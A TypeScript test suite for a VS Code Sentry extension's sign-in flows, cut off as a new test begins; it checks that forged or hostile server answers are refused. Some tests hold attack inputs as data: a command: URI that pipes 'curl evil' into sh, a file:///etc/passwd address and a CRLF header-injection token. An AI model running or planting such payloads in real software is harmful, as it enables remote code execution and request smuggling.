// Sign-in inside a real VS Code against the sandbox (started by the harness; its URL arrives in
// SENTRY_EXPLORER_TEST_SANDBOX_URL). The browser steps run in a headless Chromium driven from here.
import * as assert from 'node:assert/strict';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import * as vscode from 'vscode';
import { SentryClient } from '../../src/api/client';
import { ForbiddenError, UnauthorizedError } from '../../src/api/errors';
import type { SentryAuth } from '../../src/auth/sentryAuth';
import type { SignInMethod } from '../../src/auth/signInFlows';
import type { InputBoxWithButtonsOptions } from '../../src/util/ui';
import { clientSecretKey, sessionsKey } from '../../src/auth/core/sessionCodec';
import { AUTH_PROVIDER_ID, Commands, EXTENSION_ID } from '../../src/constants';
import { auth as getAuth, authorizeInChromium, chromiumPage, closeChromium, control, readExtensionLog, SANDBOX_URL, UiRecorder, waitFor, type RequestLogEntry } from './authHelpers';
import { print } from './output';
import { activateExtension } from './helpers';

const SCOPES = ['event:read', 'org:read', 'project:read'];
const CLIENT_SECRET_FOR_SCAN = 'test-client-secret-0123456789abcdef';

/** An item of the sign-in quick pick: a way to sign in, another server, or the separator before those. */
type MethodItem = vscode.QuickPickItem & { method?: SignInMethod; server?: 'cloud' | 'selfHosted' };

describe('sign-in (sentry-explorer authentication provider)', function () {
  this.timeout(90_000);
  let auth: SentryAuth;
  let rec: UiRecorder;
  let defaults: { clientId: string; authToken: string; org: string };
  const seenSecrets = new Set<string>();
  let previous: { baseUrl: unknown; clientId: unknown } | undefined;

  before(async function () {
    if (!SANDBOX_URL) {
      print('  (no sandbox: SENTRY_EXPLORER_TEST_SANDBOX_URL is not set; skipping the sign-in suite)');
      this.skip();
    }
    auth = await getAuth();
    await auth.ready;
    defaults = await control('defaults');
    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    previous = { baseUrl: cfg.inspect('baseUrl')?.globalValue, clientId: cfg.inspect('oauth.clientId')?.globalValue };
    await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
    await cfg.update('oauth.clientId', defaults.clientId, vscode.ConfigurationTarget.Global);
    await waitFor('the provider to follow the base URL', () => auth.provider.baseUrl === SANDBOX_URL);
    rec = new UiRecorder();
    auth.ui.override(rec.ui());
    await auth.signOut();
  });

  after(async () => {
    await closeChromium();
    auth?.ui.reset();
    if (previous) {
      const cfg = vscode.workspace.getConfiguration('sentryExplorer');
      await cfg.update('baseUrl', previous.baseUrl, vscode.ConfigurationTarget.Global);
      await cfg.update('oauth.clientId', previous.clientId, vscode.ConfigurationTarget.Global);
    }
  });

  /** Remembers every secret that crossed the wire (for the scan at the end). */
  async function collectWireSecrets(): Promise<void> {
    const log = await control<RequestLogEntry[]>('requests');
    for (const r of log) {
      const authz = r.headers['authorization'];
      if (authz) {
        seenSecrets.add(authz);
        seenSecrets.add(authz.replace(/^\S+\s+/, ''));
        if (/^basic /i.test(authz)) seenSecrets.add(Buffer.from(authz.slice(6), 'base64').toString('utf8').replace(/:$/, ''));
      }
      if (r.body && /x-www-form-urlencoded|=/.test(r.body)) {
        const form = new URLSearchParams(r.body);
        for (const k of ['code', 'code_verifier', 'device_code', 'refresh_token', 'client_secret']) {
          const v = form.get(k);
          if (v) seenSecrets.add(v);
        }
      }
    }
    const stored = await auth.context.secrets.get(auth.provider.storageKey);
    if (stored) {
      for (const s of JSON.parse(stored).sessions as Array<Record<string, string>>) {
        for (const k of ['accessToken', 'refreshToken', 'apiKey']) if (s[k]) seenSecrets.add(s[k]);
      }
    }
  }

  /** Approves (or denies) on the sandbox's verification page, typing the code in lower case without the dash. */
  async function decideInChromium(url: string, action: 'approve' | 'deny'): Promise<void> {
    const userCode = new URL(url).searchParams.get('user_code') ?? rec.clipboard.at(-1)!;
    const page = await chromiumPage();
    try {
      await page.goto(url);
      const input = page.locator('#user_code');
      await input.fill('');
      await input.pressSequentially(userCode.toLowerCase().replace('-', ''));
      await page.locator(`#${action}`).click();
      await page.locator('#result').waitFor({ timeout: 10_000 });
      assert.equal(await page.locator('#result').getAttribute('data-status'), action === 'approve' ? 'approved' : 'denied');
    } finally {
      await page.close();
    }
  }

  async function accountsMenuCommand(): Promise<string | undefined> {
    return (await vscode.commands.getCommands(true)).find((c) => c.startsWith(`${AUTH_PROVIDER_ID}:${EXTENSION_ID}:signIn`));
  }

  it('signs in with the device flow from the Accounts menu, approved in Chromium; getSession returns the session', async () => {
    await control('requests/clear', {});
    // Not signed in: the extension asked for a session without creating one, so VS Code put
    // "Sign in with Sentry to use Sentry Explorer" in the Accounts menu. Choose it.
    const menuCommand = await waitFor('the Accounts menu entry', accountsMenuCommand);
    let approval: Promise<void> | undefined;
    rec.set({
      method: 'device',
      answer: (s) => (s.modal && /sign-in code/.test(s.message) ? 'Copy & Open' : undefined),
      onOpen: (url) => {
        approval = decideInChromium(url, 'approve');
      },
    });
    const started = Date.now();
    await vscode.commands.executeCommand(menuCommand);
    const seconds = (Date.now() - started) / 1000;
    await approval;
    print(`      device-flow sign-in against the sandbox took ${seconds.toFixed(1)} s (Accounts menu to session)`);

    const modal = rec.shown.find((s) => s.modal && /sign-in code/.test(s.message))!;
    const userCode = /([A-Z]{4}-[A-Z]{4})/.exec(modal.message)![1];
    assert.deepEqual(modal.items, ['Copy & Open']);
    assert.equal(rec.clipboard.at(-1), userCode, 'Copy & Open copied the code');
    assert.match(rec.opened.at(-1)!, new RegExp(`/oauth/device/\\?user_code=${userCode}$`), 'opened verification_uri_complete');
    assert.equal(rec.quickPicks.at(-1)![0].includes('Sign in with a code'), true, 'the device flow is offered first');

    const session = await vscode.authentication.getSession(AUTH_PROVIDER_ID, SCOPES, { silent: true });
    assert.ok(session, 'vscode.authentication.getSession returns the session');
    assert.deepEqual([...session.scopes].sort(), SCOPES);
    assert.match(session.account.label, /@/);
    assert.equal(auth.isSignedIn(), true);
    assert.equal(auth.organization?.slug, defaults.org, 'the organization comes from GET /api/0/organizations/ and is remembered');
    const client = await auth.getClient();
    assert.deepEqual(
      (await client!.listOrganizations()).items.map((o) => o.slug),
      [defaults.org],
    );
    await collectWireSecrets();
    seenSecrets.add(userCode);
  });

  it('keeps the session in SecretStorage: a fresh read of the store finds it (what a window reload does)', async () => {
    const stored = await auth.context.secrets.get(auth.provider.storageKey);
    assert.ok(stored && JSON.parse(stored).sessions.length === 1);
    assert.ok(auth.provider.storageKey.includes(SANDBOX_URL!), 'the key includes the base URL');
    const sessions = await auth.provider.getSessions(undefined);
    assert.equal(sessions.length, 1);
  });

  it('ten requests failing with 401 at once cause one refresh, stored before use', async () => {
    const before = auth.session!;
    assert.equal(before.kind, 'oauth');
    const oldAccess = before.kind === 'oauth' ? before.accessToken : '';
    const oldRefresh = before.kind === 'oauth' ? before.refreshToken : '';
    await control('tokens/revoke', { token: oldAccess });
    await control('requests/clear', {});
    const client = (await auth.getClient())!;
    const results = await Promise.all(Array.from({ length: 10 }, () => client.listOrganizations()));
    assert.equal(results.length, 10);
    const refreshes = (await control<RequestLogEntry[]>('requests?path=/oauth/token/')).length;
    assert.equal(refreshes, 1, 'one refresh');
    const stored = JSON.parse((await auth.context.secrets.get(auth.provider.storageKey))!).sessions[0];
    assert.notEqual(stored.refreshToken, oldRefresh, 'the rotated refresh token is stored');
    assert.notEqual(stored.accessToken, oldAccess);
    // The first request after the refresh used exactly the stored access token.
    const used = (await control<RequestLogEntry[]>('requests?path=/api/0/organizations/')).filter((r) => r.status === 200);
    assert.ok(used.every((r) => r.headers['authorization'] === `Bearer ${stored.accessToken}`));
    await collectWireSecrets();
  });

  it('a 403 names the scopes the operation needs and offers to sign in again asking for them', async () => {
    const token = await control<{ token: string }>('tokens', { scopes: ['org:read'], kind: 'user' });
    seenSecrets.add(token.token);
    const client = new SentryClient({ baseUrl: SANDBOX_URL!, credential: async () => ({ kind: 'bearer', token: token.token }) });
    const err: unknown = await client.listIssueEvents(defaults.org, '1').catch((e: unknown) => e);
    assert.ok(err instanceof ForbiddenError);
    assert.match(err.message, /event:admin, event:read or event:write/);
    // An operation needing a scope the session lacks: signing in again asks for it, on top of the others.
    const needsWrite = new ForbiddenError(['project:write', 'project:admin'], undefined, 'GET /x/');
    rec.set({ method: 'device', answer: (s) => (s.level === 'error' && /project:write/.test(s.message) ? 'Sign In Again' : undefined) });
    await auth.showForbidden(needsWrite);
    const devices = await control<Array<{ scopes: string[] }>>('device');
    assert.deepEqual([...devices.at(-1)!.scopes].sort(), [...SCOPES, 'project:write'].sort());
    assert.equal(auth.isSignedIn(), true, 'cancelling the new sign-in keeps the old session');
  });

  it('a denied device flow says so', async () => {
    rec.set({
      method: 'device',
      answer: (s) => (s.modal ? 'Copy & Open' : undefined),
      onOpen: (url) => {
        void decideInChromium(url, 'deny');
      },
    });
    const before = rec.shown.length;
    assert.equal(await auth.signIn(), undefined);
    const messages = rec.shown.slice(before).map((s) => `${s.level}: ${s.message}`);
    assert.ok(
      messages.some((m) => /^error: .*denied/.test(m)),
      messages.join('\n'),
    );
    await collectWireSecrets();
  });

  it('an expired device flow says so and offers to start again with a new code', async () => {
    let starts = 0;
    rec.set({
      method: 'device',
      answer: (s) => {
        if (s.modal) {
          starts++;
          return 'Copy & Open';
        }
        if (/expired/.test(s.message)) return starts < 2 ? 'Start Again' : undefined;
        return undefined;
      },
      onOpen: async () => {
        // The code's 600 s pass on the server before the first poll.
        await control('clock/advance', { ms: 601_000 });
      },
    });
    const before = rec.shown.length;
    assert.equal(await auth.signIn(), undefined);
    const expired = rec.shown.slice(before).filter((s) => /expired/.test(s.message));
    assert.equal(expired.length, 2, 'said so twice: the second code was a new one');
    assert.deepEqual(expired[0].items, ['Start Again']);
    assert.equal(starts, 2);
    const codes = rec.clipboard.slice(-2);
    assert.notEqual(codes[0], codes[1], 'a new code');
    await collectWireSecrets();
  });

  it('signs in with the browser (PKCE) through the sandbox authorize page; a forged callback is rejected', async () => {
    await auth.signOut();
    await control('requests/clear', {});
    let forgedRejected = false;
    rec.set({
      method: 'browser',
      onOpen: (url) => {
        const u = new URL(url);
        assert.equal(u.pathname, '/oauth/authorize/');
        assert.equal(u.searchParams.get('response_type'), 'code');
        assert.equal(u.searchParams.get('code_challenge_method'), 'S256');
        assert.match(u.searchParams.get('code_challenge')!, /^[A-Za-z0-9_-]{43}$/);
        assert.ok(u.searchParams.get('state'));
        print(`      redirect_uri: ${u.searchParams.get('redirect_uri')!.replace(/\?.*/, '?…')}`);
        void (async () => {
          const callback = await authorizeInChromium(url, 'approve');
          // Back to VS Code the way a browser gets there: VS Code opens the callback URL itself.
          // A forged callback first (wrong state): rejected, the sign-in keeps waiting.
          // (Its own external URI: the web workbench takes one callback per external URI.)
          const forgedBase = await vscode.env.asExternalUri(vscode.Uri.parse(`${vscode.env.uriScheme}://${EXTENSION_ID}/auth-callback`));
          const forged = new URL(forgedBase.toString(true));
          forged.searchParams.set('state', 'forged-state');
          forged.searchParams.set('code', 'forged-code');
          await vscode.env.openExternal(forged.toString() as unknown as vscode.Uri);
          await waitFor('the forged callback to be rejected', () => rec.shown.some((s) => /ignored a sign-in callback/.test(s.message)) || undefined);
          forgedRejected = true;
          await vscode.env.openExternal(callback as unknown as vscode.Uri);
        })().catch((e) => print(`      browser step failed: ${e}`));
      },
    });
    const session = await auth.signIn();
    assert.ok(session, 'signed in');
    assert.equal(session.kind, 'oauth');
    assert.ok(forgedRejected, 'the forged callback was rejected');
    const exchange = (await control<RequestLogEntry[]>('requests?path=/oauth/token/')).map((r) => new URLSearchParams(r.body));
    assert.equal(exchange.length, 1);
    assert.equal(exchange[0].get('grant_type'), 'authorization_code');
    assert.match(exchange[0].get('code_verifier')!, /^[A-Za-z0-9\-._~]{43,128}$/);
    assert.equal(auth.organization?.slug, defaults.org);
    await collectWireSecrets();
  });

  it('a browser sign-in denied on the authorize page is reported', async () => {
    rec.set({
      method: 'browser',
      onOpen: (url) => {
        void authorizeInChromium(url, 'deny')
          .then((callback) => vscode.env.openExternal(callback as unknown as vscode.Uri))
          .catch((e) => print(`      browser step failed: ${e}`));
      },
    });
    const before = rec.shown.length;
    assert.equal(await auth.signIn(), undefined);
    assert.ok(rec.shown.slice(before).some((s) => s.level === 'error' && /denied/.test(s.message)));
  });

  it('a revoked pasted token is never deleted unasked: dismissing keeps it, "Remove Sign-In" removes it', async () => {
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    rec.set({ method: 'token', inputs: [token.token] });
    const session = await auth.signIn();
    assert.equal(session?.kind, 'token');
    assert.deepEqual(session?.scopes, SCOPES, 'scopes from what the server answered');
    const client = (await auth.getClient())!;
    await client.listOrganizations();
    await control('tokens/revoke', { token: token.token });
    // First question: dismissed. The token stays stored (Sentry shows a user token only once).
    let before = rec.shown.length;
    rec.set({ answer: () => undefined });
    await assert.rejects(client.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
    await assert.rejects(client.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
    const asked = await waitFor('the question', () => rec.shown.slice(before).find((s) => /rejected the stored auth token/.test(s.message)));
    assert.deepEqual(asked.items, ['Sign In Again', 'Remove Sign-In']);
    assert.match(asked.detail ?? '', /only once/);
    await new Promise((r) => setTimeout(r, 200));
    assert.equal(rec.shown.slice(before).filter((s) => /rejected the stored/.test(s.message)).length, 1, 'asked once, not per request');
    assert.equal(auth.isSignedIn(), true, 'kept');
    assert.ok(await auth.context.secrets.get(auth.provider.storageKey), 'the stored token is still there');

    // A second revoked token, and this time the user removes it.
    const token2 = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token2.token);
    rec.set({ method: 'token', inputs: [token2.token] });
    assert.ok(await auth.signIn());
    const client2 = (await auth.getClient())!;
    await control('tokens/revoke', { token: token2.token });
    before = rec.shown.length;
    rec.set({ answer: (s) => (/rejected the stored/.test(s.message) ? 'Remove Sign-In' : undefined) });
    await assert.rejects(client2.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
    await waitFor('signed out', () => !auth.isSignedIn() || undefined);
    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined, 'its secrets are gone');
    // Context keys cannot be read back; an empty tree is what makes the view show its sign-in welcome.
    assert.deepEqual(await (await activateExtension()).issues.tree.getChildren(), [], 'the Issues view falls back to its welcome');
  });

  it("a 401 naming a step (sso-required) keeps the session and offers the server's own page", async () => {
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    rec.set({ method: 'token', inputs: [token.token] });
    assert.ok(await auth.signIn());
    const client = (await auth.getClient())!;
    await control('faults', {
      path: '^/api/0/organizations/$',
      count: 1,
      respond: {
        status: 401,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ detail: { code: 'sso-required', message: 'Must login via SSO', extra: { loginUrl: '/auth/login/acme/' } } }),
      },
    });
    const before = rec.shown.length;
    const opened = rec.opened.length;
    rec.set({ answer: (s) => s.items.find((i) => i.startsWith('Open ')) });
    // The client comes from the extension's bundle: its error classes are not this suite's.
    const err = (await client.listOrganizations().catch((e: unknown) => e)) as UnauthorizedError;
    assert.equal(err.name, UnauthorizedError.name, String(err));
    assert.equal(err.code, 'sso-required');
    const told = await waitFor('the step message', () => rec.shown.slice(before).find((s) => /single sign-on/.test(s.message)));
    assert.equal(told.level, 'warning');
    await waitFor('the page to open', () => rec.opened.length > opened || undefined);
    assert.deepEqual(rec.opened.slice(opened), [`${SANDBOX_URL}/auth/login/acme/`]);
    assert.equal(auth.isSignedIn(), true, 'the session is kept');
    assert.ok(await auth.context.secrets.get(auth.provider.storageKey));
    assert.ok((await client.listOrganizations()).items.length >= 1, 'the same session works once the step is done');
    assert.equal(
      rec.shown.slice(before).some((s) => /rejected the stored/.test(s.message)),
      false,
      'not treated as an expired token',
    );
  });

  it('a 403 for a token that has the scope quotes the server and does not ask for a scope', async () => {
    const client = (await auth.getClient())!;
    await control('faults', {
      path: '/events/$',
      count: 1,
      respond: { status: 403, headers: { 'content-type': 'application/json' }, body: JSON.stringify({ detail: 'This token is limited to another organization.' }) },
    });
    const err = (await client.listIssueEvents(defaults.org, '1').catch((e: unknown) => e)) as ForbiddenError;
    assert.equal(err.name, ForbiddenError.name, String(err));
    assert.deepEqual([...err.missingScopes], [], 'the session has event:read (grantedScopes is wired from the session)');
    assert.match(err.message, /limited to another organization/);
    const before = rec.shown.length;
    rec.set({ answer: () => undefined });
    await auth.showForbidden(err);
    const shown = rec.shown.slice(before);
    assert.equal(shown.length, 1);
    assert.deepEqual(shown[0].items, [], 'no "Sign In Again": scopes are not what is missing');
    assert.match(shown[0].message, /limited to another organization/, "the server's detail is quoted");
    assert.doesNotMatch(shown[0].message, /granting that scope/);
  });

  it('credentials with control characters or inner whitespace are refused at paste: nothing is sent or stored', async () => {
    await auth.signOut();
    await control('requests/clear', {});
    for (const bad of ['sntryu_abc\u0007def0123456789', 'sntryu_abc\r\nX-Injected: 1', 'sntryu_abc def0123456789']) {
      const before = rec.shown.length;
      rec.set({ method: 'token', inputs: [bad] });
      assert.equal(await auth.signIn(), undefined, JSON.stringify(bad));
      const refused = rec.shown.slice(before).find((s) => s.level === 'error');
      assert.match(refused?.message ?? '', /control or invisible character|no spaces/, JSON.stringify(bad));
    }
    assert.deepEqual(
      (await control<RequestLogEntry[]>('requests')).map((r) => r.path),
      [],
      'no request was sent',
    );
    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
  });

  it('an organization auth token (sntrys_) is refused at paste, saying it cannot read issues and offering the token page: nothing is sent or stored', async () => {
    await auth.signOut();
    const org = await control<{ token: string }>('tokens', { kind: 'org' });
    seenSecrets.add(org.token);
    await control('requests/clear', {});
    const tokenPage = `${SANDBOX_URL}/settings/account/api/auth-tokens/new-token/`;
    const { boxes } = recordPicksAndBoxes(false);
    try {
      rec.set({ method: 'token', inputs: [org.token], answer: (s) => (/organization auth token/.test(s.message) ? 'Open Token Page' : undefined) });
      const before = rec.shown.length;
      const opened = rec.opened.length;
      assert.equal(await auth.signIn(), undefined);
      const box = boxes.at(-1)!;
      assert.match(String((await box.validateInput?.(org.token)) ?? ''), /organization auth token/, 'the box itself refuses it as it is typed');
      assert.equal(await box.validateInput?.(defaults.authToken), undefined, 'a user token is not refused');
      const refused = rec.shown.slice(before).filter((s) => s.level === 'error');
      assert.equal(refused.length, 1, JSON.stringify(refused));
      assert.match(refused[0].message, /organization auth token.*org:ci.*cannot read issues.*user auth token.*scopes event:read, org:read, project:read/);
      assert.deepEqual(refused[0].items, ['Open Token Page']);
      await waitFor('the token page', () => rec.opened.length > opened || undefined);
      assert.deepEqual(rec.opened.slice(opened), [tokenPage]);
    } finally {
      auth.ui.override(rec.ui());
    }
    assert.deepEqual(
      (await control<RequestLogEntry[]>('requests')).map((r) => r.path),
      [],
      'no request was sent',
    );
    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
  });

  it('a mistyped token: the box opens again with the text kept, saying the server did not accept it; the fixed token signs in', async () => {
    await auth.signOut();
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    const typo = `${token.token.slice(0, -4)}zzzz`;
    seenSecrets.add(token.token);
    seenSecrets.add(typo);
    const { boxes } = recordPicksAndBoxes(false);
    try {
      rec.set({ method: 'token', inputs: [typo, token.token] });
      const before = rec.shown.length;
      const session = await auth.signIn();
      assert.equal(boxes.length, 2, 'the box opened again');
      const again = boxes[1];
      assert.equal(again.value, typo, 'with the text kept');
      assert.equal(again.title, boxes[0].title);
      assert.equal(again.password, true);
      assert.equal(again.validationMessage, `Sentry (${new URL(SANDBOX_URL!).host}) did not accept this auth token (Invalid token). Check that you pasted all of it, or create a new one.`);
      assert.equal(await again.validateInput?.(typo), again.validationMessage, 'the same text is refused again without sending it');
      assert.equal(await again.validateInput?.(token.token), undefined, 'an edited text is not');
      const shown = rec.shown.slice(before);
      assert.deepEqual(
        shown.filter((s) => s.level !== 'info').map((s) => s.message),
        [],
        'no error notification (and no "expired or revoked")',
      );
      assert.equal(session?.kind, 'token', 'the fixed token signs in');
      assert.equal(auth.isSignedIn(), true);
    } finally {
      auth.ui.override(rec.ui());
    }
  });

  it('the account is the person the server names for a pasted token (GET /api/0/), else the token and its organizations', async () => {
    const host = new URL(SANDBOX_URL!).host;
    const user = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    const integration = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'integration' });
    seenSecrets.add(user.token);
    seenSecrets.add(integration.token);
    rec.set({ method: 'token', inputs: [user.token] });
    const before = rec.shown.length;
    const mine = await auth.signIn();
    assert.equal(mine?.account.label, 'Jane Doe (jane@example.com)');
    assert.ok(rec.shown.slice(before).some((s) => s.message === `Signed in to Sentry (${host}) as Jane Doe (jane@example.com).`));
    assert.equal((await auth.provider.getSessions(SCOPES))[0]?.account.label, 'Jane Doe (jane@example.com)', 'the Accounts menu names the person');
    rec.set({ method: 'token', inputs: [integration.token] });
    assert.equal((await auth.signIn())?.account.label, 'Auth token (acme)', 'an internal integration names no person: the token and its organization');
  });

  it('changing sentryExplorer.baseUrl during a sign-in stores the session under the server that issued it', async () => {
    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    const other = 'http://127.0.0.1:9';
    const token = await control<{ token: string }>('tokens', { scopes: SCOPES, kind: 'user' });
    seenSecrets.add(token.token);
    try {
      rec.set({
        method: 'token',
        inputs: [token.token],
        // While the token box is open, the setting moves to another server.
        onInput: async () => {
          await cfg.update('baseUrl', other, vscode.ConfigurationTarget.Global);
          await waitFor('the switch', () => auth.provider.baseUrl === other);
        },
      });
      const session = await auth.signIn();
      assert.ok(session, 'signed in (with the server the sign-in started with)');
      assert.equal(await auth.context.secrets.get(sessionsKey(other)), undefined, 'nothing stored for the other server');
      const stored = await auth.context.secrets.get(sessionsKey(SANDBOX_URL!));
      assert.ok(stored && JSON.parse(stored).sessions[0].id === session.id, 'stored for the issuing server');
      assert.equal(auth.isSignedIn(), false, 'the other server has no session');
    } finally {
      await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
      await waitFor('the switch back', () => auth.provider.baseUrl === SANDBOX_URL);
    }
    await waitFor('the session of the issuing server', () => auth.isSignedIn() || undefined);
    assert.ok((await (await auth.getClient())!.listOrganizations()).items.length >= 1);
    await auth.signOut();
  });

  it('a device-code answer naming a file:, command: or foreign page opens nothing and shows the address as text', async () => {
    await control('requests/clear', {});
    await control('faults', {
      path: '^/oauth/device/code/$',
      count: 1,
      respond: {
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          device_code: 'f'.repeat(64),
          user_code: 'BCDF-GHJK',
          verification_uri: 'file:///etc/passwd',
          verification_uri_complete: 'command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D',
          expires_in: 600,
          interval: 1,
        }),
      },
    });
    const opened = rec.opened.length;
    const before = rec.shown.length;
    rec.set({ method: 'device', answer: (s) => (s.modal ? s.items[0] : undefined) });
    assert.equal(await auth.signIn(), undefined, 'the unknown device code cannot be approved');
    assert.deepEqual(rec.opened.slice(opened), [], 'openExternal was never called');
    const modal = rec.shown.slice(before).find((s) => s.modal)!;
    assert.deepEqual(modal.items, ['Copy Code'], 'no "Copy & Open"');
    assert.match(modal.detail ?? '', /file:\/\/\/etc\/passwd/, 'the address is shown as text');
    assert.equal(rec.clipboard.at(-1), 'BCDF-GHJK', 'the code is still copied');
    for (const s of rec.shown.slice(before)) assert.doesNotMatch(`${s.message} ${s.detail ?? ''}`, /\]\(|command:workbench/, 'no link or command in any message');
  });

  it("OAuth metadata naming another host: the device sign-in asks the server's own addresses, nothing goes elsewhere, and the log says what was not used", async () => {
    await auth.signOut();
    const got: string[] = [];
    const elsewhere = http.createServer((req, res) => {
      got.push(`${req.method} ${req.url}`);
      res.writeHead(400, { 'content-type': 'application/json' }).end('{"error":"invalid_grant"}');
    });
    await new Promise<void>((r) => elsewhere.listen(0, '127.0.0.1', r));
    const foreign = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    try {
      await control('requests/clear', {});
      await control('faults', {
        path: '^/\\.well-known/oauth-authorization-server$',
        respond: {
          status: 200,
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ issuer: `${SANDBOX_URL}/`, device_authorization_endpoint: `${foreign}/oauth/device/code/`, token_endpoint: `${foreign}/oauth/token/` }),
        },
      });
      rec.set({
        method: 'device',
        answer: (s) => (s.modal ? 'Copy & Open' : undefined),
        onOpen: async () => {
          await control('clock/advance', { ms: 5_000 });
          await control('device/approve', {});
        },
      });
      const session = await auth.signIn();
      assert.equal(session?.kind, 'oauth');
      assert.deepEqual(got, [], 'the other host got no request');
      const asked = (await control<RequestLogEntry[]>('requests')).filter((r) => /^\/(oauth\/(device\/code|token)|\.well-known)\//.test(r.path)).map((r) => `${r.method} ${r.path}`);
      assert.deepEqual([...new Set(asked)], ['GET /.well-known/oauth-authorization-server', 'POST /oauth/device/code/', 'POST /oauth/token/']);
      await waitFor(
        'the log line',
        () => /the OAuth metadata of http:\/\/127\.0\.0\.1:\d+: its token_endpoint "http:\/\/127\.0\.0\.1:\d+\/oauth\/token\/" is not on/.test(readExtensionLog(auth)) || undefined,
      );
      await collectWireSecrets();
    } finally {
      await control('faults/clear', {});
      await new Promise<void>((r) => elsewhere.close(() => r()));
      await auth.signOut();
    }
  });

  it('invalid_grant on refresh (a revoked token family): the session is removed and the user told to sign in again', async () => {
    // Browser sign-in, approved at once by the sandbox (auto-approve), the callback delivered by VS Code.
    await control('oauth/auto-approve', { enabled: true });
    try {
      rec.set({
        method: 'browser',
        onOpen: (url) => {
          void fetch(url, { redirect: 'manual' })
            .then((res) => vscode.env.openExternal(res.headers.get('location')! as unknown as vscode.Uri))
            .catch((e) => print(`      browser step failed: ${e}`));
        },
      });
      const session = await auth.signIn();
      assert.equal(session?.kind, 'oauth');
    } finally {
      await control('oauth/auto-approve', { enabled: false });
    }
    const s = auth.session!;
    await collectWireSecrets();
    // Revoking the refresh token revokes its family, the access token included.
    await control('tokens/revoke', { token: s.kind === 'oauth' ? s.refreshToken : '' });
    const before = rec.shown.length;
    const client = (await auth.getClient())!;
    await assert.rejects(client.listOrganizations(), (e: unknown) => e instanceof Error && e.name === UnauthorizedError.name);
    await waitFor('the sign-in prompt', () => rec.shown.slice(before).find((m) => /Sign in again/i.test(m.message) && m.items.includes('Sign In')));
    assert.equal(auth.isSignedIn(), false);
    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
    const refreshes = (await control<RequestLogEntry[]>('requests?path=/oauth/token/')).filter((r) => new URLSearchParams(r.body).get('grant_type') === 'refresh_token');
    assert.equal(refreshes.length, 1, 'one refresh attempt, then signed out');
  });

  it('a legacy API key is validated before it is saved', async () => {
    await auth.signOut();
    const key = await control<{ key: string }>('api-keys', {});
    seenSecrets.add(key.key);
    const { boxes } = recordPicksAndBoxes(false);
    rec.set({ method: 'apiKey', inputs: ['not-a-key'] });
    const before = rec.shown.length;
    assert.equal(await auth.signIn(), undefined, 'the box opened again, then was closed');
    auth.ui.override(rec.ui());
    assert.equal(boxes.length, 2);
    assert.equal(boxes[1].value, 'not-a-key');
    assert.match(boxes[1].validationMessage ?? '', /did not accept this API key/);
    assert.deepEqual(
      rec.shown.slice(before).map((s) => s.message),
      [],
    );
    assert.equal(auth.isSignedIn(), false);
    rec.set({ method: 'apiKey', inputs: [key.key] });
    const session = await auth.signIn();
    assert.equal(session?.kind, 'apiKey');
    const client = (await auth.getClient())!;
    assert.ok((await client.listOrganizations()).items.length >= 1);
    await collectWireSecrets();
  });

  it('a stored secret that does not parse is deleted and the user asked to sign in again', async () => {
    const before = rec.shown.length;
    await auth.context.secrets.store(auth.provider.storageKey, '{"version":1,"sessions":[{"kind":"oauth"');
    await waitFor('the warning', () => rec.shown.slice(before).find((s) => /could not be read/.test(s.message)));
    assert.equal(await auth.context.secrets.get(auth.provider.storageKey), undefined);
    assert.equal(auth.isSignedIn(), false);
  });

  it('a client secret is entered with a command and kept in SecretStorage only', async () => {
    rec.set({ inputs: [CLIENT_SECRET_FOR_SCAN] });
    await vscode.commands.executeCommand(Commands.setClientSecret);
    const key = clientSecretKey(SANDBOX_URL!, defaults.clientId);
    assert.equal(await auth.context.secrets.get(key), CLIENT_SECRET_FOR_SCAN);
    seenSecrets.add(CLIENT_SECRET_FOR_SCAN);
    rec.set({ inputs: [''] });
    await vscode.commands.executeCommand(Commands.setClientSecret);
    assert.equal(await auth.context.secrets.get(key), undefined);
  });

  it('plain http to a host that is not loopback needs an explicit confirmation', async () => {
    const cfg = vscode.workspace.getConfiguration('sentryExplorer');
    await cfg.update('baseUrl', 'http://sentry.example.invalid', vscode.ConfigurationTarget.Global);
    try {
      await waitFor('the switch', () => auth.provider.baseUrl === 'http://sentry.example.invalid');
      const before = rec.shown.length;
      const { picks, boxes } = recordPicksAndBoxes(false);
      rec.set({ method: 'token', inputs: ['whatever'], answer: () => undefined });
      assert.equal(await auth.signIn(), undefined);
      const asked = rec.shown.slice(before).find((s) => s.modal && /plain http/.test(s.message));
      assert.ok(asked, 'asked');
      assert.deepEqual(asked.items, ['Send Anyway']);
      // The pick comes first (it sends nothing, and offers another server); the token box never opens.
      assert.equal(picks.length, 1);
      assert.deepEqual(boxes, [], 'nothing else happened');
    } finally {
      auth.ui.override(rec.ui());
      await cfg.update('baseUrl', SANDBOX_URL, vscode.ConfigurationTarget.Global);
      await waitFor('the switch back', () => auth.provider.baseUrl === SANDBOX_URL);
    }
  });

  it('a bad sentryExplorer.baseUrl is reported once, by the settings listener; reading it meanwhile gives the default and opens nothing', async () => {
